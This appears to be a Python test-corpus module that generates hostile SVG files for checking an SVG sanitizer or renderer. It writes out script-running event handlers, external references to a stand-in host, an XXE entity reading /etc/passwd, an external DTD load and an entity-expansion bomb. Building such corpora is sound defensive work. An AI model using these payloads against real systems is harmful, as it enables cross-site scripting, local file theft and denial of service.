"""Hostile crests: SVG files that would run a script, load a file or never end."""

from collections.abc import Iterable

from payloads.corpus import ELEMENTS, HOST, RUN, SCHEMES


def svg(inside: str, attributes: str = "") -> str:
    """Return an SVG file that holds something."""
    names = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f'<svg {names} viewBox="0 0 10 12" {attributes}><path id="p" d="M0 0h10v12z"/>{inside}</svg>'


def _crests() -> Iterable[str]:
    addresses = (HOST + "/x#p", *(scheme.replace("&", "&amp;").replace("<", "&lt;") for scheme in SCHEMES))
    for address in addresses:
        for name in ("href", "xlink:href"):
            for element in ("use", "image", "a", "script", "linearGradient", "feImage", "animate", "mpath", "tref"):
                yield svg(f'<{element} {name}="{address}"/>')
        yield svg(f'<path fill="url({address})"/>')
        yield svg(f'<path style="fill:url({address})"/>')
        yield svg(f"<style>path{{fill:url({address})}}</style>")
        yield svg(f'<style>@import "{address}";</style>')
        yield f'<?xml-stylesheet href="{address}"?>{svg("")}'
    for event in ("onload", "onclick", "onbegin", "onfocus", "ONLOAD", "onmouseover", "onerror"):
        yield svg("", f'{event}="{RUN}"')
        yield svg(f'<g {event}="{RUN}" tabindex="1"/>')
        yield svg(f'<path xmlns:x="urn:x" x:{event}="{RUN}"/>')
    for element in ELEMENTS:
        yield svg(element)
        yield svg(f"<foreignObject>{element}</foreignObject>")
        yield svg(f"<desc><![CDATA[{element}]]></desc>")
        yield svg(f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">{element}</body></foreignObject>')
    yield f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{svg("<desc>&x;</desc>")}'
    yield f'<!DOCTYPE svg [<!ENTITY x "{"x" * 99}"><!ENTITY y "{"&x;" * 99}">]>{svg("<desc>&y;</desc>")}'
    yield f'<!DOCTYPE svg SYSTEM "{HOST}/x.dtd">{svg("<desc>&x;</desc>")}'


CRESTS = tuple(dict.fromkeys(_crests()))
"""SVG files."""
